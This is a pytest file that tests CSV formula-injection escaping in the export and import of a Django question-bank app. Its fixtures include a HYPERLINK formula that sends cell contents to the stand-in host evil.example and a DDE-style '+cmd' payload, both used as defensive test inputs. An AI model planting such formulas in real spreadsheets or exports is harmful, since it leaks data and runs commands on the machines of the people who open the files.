"""A CSV export opened in a spreadsheet runs no formula; importing it gives back the same text.

Cells starting with = + - @ (or a tab or carriage return) get a leading ' on export, and the
import takes exactly that ' away again.
"""

import csv
import io

import pytest

from questionbank.importing import parse_csv
from questionbank.models import Category, Question
from tests.factories import CategoryFactory, QuestionFactory

from .test_round_trip import _bank, _empty

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.fixture
def formulas(db):
    category = CategoryFactory(name="@Everyone", slug="everyone", number=1)
    category.description = "+1 for this category"
    category.save()
    question = QuestionFactory(
        key="-dash-key",
        category=category,
        prompt=f"<p>{FORMULA.replace('&', '&amp;')}</p>",
        guide_1="-2 points",
        guide_2="'=already quoted",
        guide_3="'plain quote",
        guide_4="@SUM(A1:A9)",
        follow_ups="=1+1\n+cmd|' /C calc'!A0",
        key_points="@risk",
    )
    question.tags.add("+tag")
    question.save_revision().publish()
    return question


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_it_writes_no_cell_a_spreadsheet_would_run(formulas, run_export):
    cells = _cells(run_export("--format", "csv"))
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + FORMULA in cells
    assert "'-dash-key" in cells and "'@Everyone" in cells and "'+tag" in cells


def test_it_round_trips_cells_that_look_like_formulas(formulas, tmp_path, run_export, run_import):
    before = _bank()
    path = tmp_path / "bank.csv"
    path.write_text(run_export("--format", "csv"), encoding="utf-8")
    _empty()
    run_import(path)
    assert _bank() == before
    assert Category.objects.get().description == "+1 for this category"
    assert Question.objects.get().guide_2 == "'=already quoted"


def test_it_takes_the_guard_away_from_a_hand_written_file():
    bank = parse_csv("key,category,prompt,guide_1\n'-k,'@Ops,'=2+2,''=x\n")
    row = bank.questions[0]
    assert (row.key, row.category, row.guides[0]) == ("-k", "@Ops", "'=x")
    assert row.prompt == "<p>=2+2</p>"
